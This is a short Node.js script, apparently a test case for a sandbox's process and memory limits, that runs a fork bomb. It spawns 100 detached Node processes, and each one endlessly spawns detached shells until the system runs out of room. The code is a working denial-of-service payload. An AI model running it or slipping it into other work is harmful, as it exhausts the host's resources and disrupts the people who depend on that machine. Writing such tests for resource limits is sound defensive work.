// Every process starts more of itself until there is no room for any.
// outcome: process_limit or memory or failed
const { spawn } = require("child_process");
const again = `const { spawn } = require("child_process");
for (;;) spawn("/bin/sh", ["-c", "sleep 100 & sleep 100"], { detached: true, stdio: "ignore" }).on("error", () => process.exit(1));`;
for (let number = 0; number < 100; number++) {
  spawn(process.execPath, ["-e", again], { detached: true, stdio: "ignore" }).on("error", () => process.exit(1));
}
